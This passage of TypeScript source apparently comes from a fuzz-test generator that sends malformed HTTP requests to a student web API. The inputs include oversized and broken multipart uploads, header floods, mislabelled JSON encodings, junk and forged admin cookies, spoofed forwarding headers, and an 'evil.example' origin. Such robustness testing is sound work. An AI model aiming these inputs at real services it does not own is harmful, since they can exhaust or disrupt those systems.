      auth: t.auth,
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      body,
      note: `${seed.name}: ${m.note} → ${t.path.replace(o.studentNumber, ':sn')}`,
    });
  }

  if (family === 'multipart') {
    const seed = rng.pick(o.assets.seeds);
    const t = uploadTarget(rng, o.studentNumber);
    const boundary = `----fz${index}`;
    const file: Part = { name: t.field, filename: 'a.jpg', type: 'image/jpeg', bytes: seed.bytes };
    const which = rng.pick([
      'no_boundary',
      'two_files',
      'huge_field',
      'many_fields',
      'oversize',
      'broken',
      'not_multipart',
    ]);
    const ct = { 'content-type': `multipart/form-data; boundary=${boundary}` };
    const make = (headers: Record<string, string>, body: Uint8Array, note: string) =>
      c(`multipart.${which}`, {
        method: 'POST',
        path: t.path,
        auth: t.auth,
        headers,
        body,
        note: `${note} → ${t.path.replace(o.studentNumber, ':sn')}`,
      });
    switch (which) {
      case 'no_boundary':
        return make(
          {
            'content-type': rng.pick([
              'multipart/form-data',
              'multipart/form-data; boundary=',
              'multipart/form-data; boundary="',
            ]),
          },
          multipartBody([file], boundary),
          'no boundary parameter',
        );
      case 'two_files': {
        const other = rng.chance(0.5) ? t.field : 'other';
        return make(
          ct,
          multipartBody([file, { ...file, name: other, filename: 'b.jpg' }], boundary),
          `second file in "${other}"`,
        );
      }
      case 'huge_field': {
        const n = rng.pick([100_000, 1_100_000, 3_000_000]);
        const name = rng.chance(0.3) ? 'x'.repeat(n) : 'source';
        const value = name === 'source' ? 'y'.repeat(n) : 'camera';
        return make(
          ct,
          multipartBody([{ name, bytes: Buffer.from(value) }, file], boundary),
          `a ${n}-char field ${name === 'source' ? 'value' : 'name'}`,
        );
      }
      case 'many_fields': {
        const n = rng.pick([11, 100, 5000]);
        const parts = Array.from({ length: n }, (_, i) => ({ name: `f${i}`, bytes: Buffer.from('v') }));
        return make(ct, multipartBody([...parts, file], boundary), `${n} text fields`);
      }
      case 'oversize': {
        const over = Buffer.alloc(o.uploadLimitBytes + rng.int(1, 64 * 1024));
        over.set(seed.bytes.subarray(0, Math.min(seed.bytes.length, over.length)));
        return make(ct, multipartBody([{ ...file, bytes: over }], boundary), `a ${over.length}-byte file`);
      }
      case 'not_multipart':
        return make(
          { 'content-type': rng.pick(['image/jpeg', 'application/octet-stream', 'application/json', 'text/plain']) },
          seed.bytes,
          'raw image body, no multipart',
        );
      default: {
        const good = Buffer.from(multipartBody([file], boundary));
        const v = rng.pick([
          ['no closing boundary', good.subarray(0, good.length - boundary.length - 8)],
          ['cut inside the file', good.subarray(0, rng.int(1, good.length - 1))],
          ['other boundary in body', Buffer.from(multipartBody([file], 'other'))],
          [
            'no Content-Disposition',
            Buffer.from(`--${boundary}\r\nContent-Type: image/jpeg\r\n\r\nabc\r\n--${boundary}--\r\n`),
          ],
          ['LF line ends', Buffer.from(good.toString('latin1').replaceAll('\r\n', '\n'), 'latin1')],
          ['empty body', Buffer.alloc(0)],
          [
            'header without end',
            Buffer.from(
              `--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="a.jpg"\r\n${'X-Pad: a\r\n'.repeat(20_000)}`,
            ),
          ],
          [
            'nested multipart/mixed',
            Buffer.from(
              `--${boundary}\r\nContent-Disposition: form-data; name="photo"\r\nContent-Type: multipart/mixed; boundary=inner\r\n\r\n--inner\r\nContent-Disposition: file; filename="a.jpg"\r\n\r\nabc\r\n--inner--\r\n--${boundary}--\r\n`,
            ),
          ],
        ] as const);
        return make(ct, new Uint8Array(v[1]), v[0]);
      }
    }
  }

  if (family === 'json') {
    const withBody = ops.filter((op) => op.body);
    const op = rng.pick(withBody);
    const j = jsonCase(rng, op);
    const body = j.type === 'latin1' ? Buffer.from(j.body, 'latin1') : Buffer.from(j.body, 'utf8');
    return c(j.kind, {
      method: op.method,
      path: fillPath(rng, op),
      auth: op.auth,
      headers: {
        'content-type': rng.chance(0.9)
          ? 'application/json'
          : rng.pick(['application/json; charset=latin1', 'application/JSON', 'application/json; charset=utf-16']),
      },
      body: new Uint8Array(body),
      note: `${op.method} ${op.route}: ${j.note}`,
    });
  }

  if (family === 'params') {
    const withParams = ops.filter((op) => op.params.length > 0);
    const op = rng.pick(withParams);
    const p = rng.pick(op.params);
    const value = rng.pick(BAD_PARAMS);
    const body = op.body ? new Uint8Array(Buffer.from(jsonText(sample(rng, op.body)))) : undefined;
    return c('params.bad_value', {
      method: op.method,
      path: fillPath(rng, op, { name: p.name, value }),
      auth: op.auth,
      headers: body ? { 'content-type': 'application/json' } : {},
      body,
      note: `${op.method} ${op.route}: ${p.in} ${p.name} = ${JSON.stringify(value.slice(0, 30))}`,
    });
  }

  // Headers: lying encodings, foreign origins, junk cookies, on any operation.
  const op = rng.pick(ops);
  const body = op.body ? new Uint8Array(Buffer.from(jsonText(sample(rng, op.body)))) : undefined;
  const which = rng.pick([
    ['content-encoding gzip (not gzipped)', { 'content-encoding': 'gzip', 'content-type': 'application/json' }],
    ['content-type with junk parameters', { 'content-type': `application/json; ${'a=b; '.repeat(2000)}` }],
    ['cookie junk', { cookie: `kz_sid=${randomHex(rng, 64)}; kz_admin=${'%'.repeat(100)}` }],
    ['huge cookie', { cookie: `kz_sid=${'a'.repeat(6000)}` }],
    ['foreign origin', { origin: 'https://evil.example', 'content-type': 'application/json' }],
    ['origin null', { origin: 'null', 'content-type': 'application/json' }],
    ['accept-language junk', { 'accept-language': '*;q=abc, zh-CN;q=NaN, ,,,' }],
    ['range junk', { range: 'bytes=999999999999-1,-,5-3' }],
    ['x-forwarded-for junk', { 'x-forwarded-for': `${'1.1.1.1, '.repeat(500)}not-an-ip` }],
  ] as const);
  return c('headers.lie', {
    method: op.method,
    path: fillPath(rng, op),
    // A junk cookie replaces the session: sent without one.
    auth: 'cookie' in which[1] ? 'none' : op.auth,
    headers: { ...(body ? { 'content-type': 'application/json' } : {}), ...which[1] },
    body,
    note: `${op.method} ${op.route}: ${which[0]}`,
  });
}

function randomHex(rng: Rng, n: number): string {
  return Buffer.from(rng.bytes(n / 2)).toString('hex');
}
